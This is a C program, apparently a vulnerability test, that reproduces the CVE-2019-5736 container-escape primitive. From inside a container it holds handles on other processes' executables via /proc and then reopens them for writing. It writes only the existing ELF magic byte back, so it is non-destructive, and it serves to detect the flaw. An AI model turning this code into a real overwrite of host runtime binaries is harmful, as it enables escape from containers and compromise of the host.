// The CVE-2019-5736 attacker, run inside a container with CAP_SYS_PTRACE (issue 8, D1).
//
// Phase 1 (SECONDS long): scan /proc/*/exe over and over and hold an O_PATH handle on
// the executable of every process that is not this scanner. A runtime that runs its own
// binary inside the container's pid namespace (exec, or init of a container that joins
// this pid namespace) shows up here with /proc/PID/exe = the host's runtime binary.
// Phase 2, once DONEFILE exists (the runtime has finished, so no ETXTBSY): reopen every
// handle through /proc/self/fd/N for writing and write the file's own first byte back
// (0x7f of the ELF magic: the file stays intact even when the write goes through).
// Prints "held H writable W" and, for each writable one, what it was.
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define MAXH 4000

static double now(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec + t.tv_nsec / 1e9;
}

int main(int argc, char **argv) {
    if (argc != 3) { fprintf(stderr, "usage: exe_scanner SECONDS DONEFILE\n"); return 2; }
    double secs = atof(argv[1]);
    struct stat self;
    if (stat("/proc/self/exe", &self) != 0) { perror("stat /proc/self/exe"); return 2; }
    static int fds[MAXH];
    static char what[MAXH][64];
    static int seen[1 << 16];
    int n = 0;
    pid_t me = getpid();
    printf("scanning\n");
    fflush(stdout);
    double end = now() + secs;
    while (now() < end && n < MAXH) {
        DIR *d = opendir("/proc");
        if (!d) { perror("opendir /proc"); return 2; }
        struct dirent *e;
        while ((e = readdir(d)) && n < MAXH) {
            int pid = atoi(e->d_name);
            if (pid <= 0 || pid == me) continue;
            char path[64];
            snprintf(path, sizeof path, "/proc/%d/exe", pid);
            int fd = open(path, O_PATH | O_CLOEXEC);
            if (fd < 0) continue;
            struct stat st;
            if (fstat(fd, &st) != 0 || (st.st_dev == self.st_dev && st.st_ino == self.st_ino) ||
                seen[pid & 0xffff] == pid) {
                close(fd);
                continue;
            }
            seen[pid & 0xffff] = pid;
            snprintf(what[n], sizeof what[n], "pid %d dev %lx ino %lu", pid, (unsigned long)st.st_dev,
                     (unsigned long)st.st_ino);
            fds[n++] = fd;
        }
        closedir(d);
    }
    for (int i = 0; i < 400 && access(argv[2], F_OK) != 0; i++) usleep(50000);
    int writable = 0;
    for (int i = 0; i < n; i++) {
        char path[64];
        snprintf(path, sizeof path, "/proc/self/fd/%d", fds[i]);
        int w = open(path, O_WRONLY | O_CLOEXEC);
        if (w < 0) continue;
        char magic = 0x7f;
        if (pwrite(w, &magic, 1, 0) == 1) {
            writable++;
            printf("writable: %s\n", what[i]);
        }
        close(w);
    }
    printf("held %d writable %d\n", n, writable);
    return 0;
}
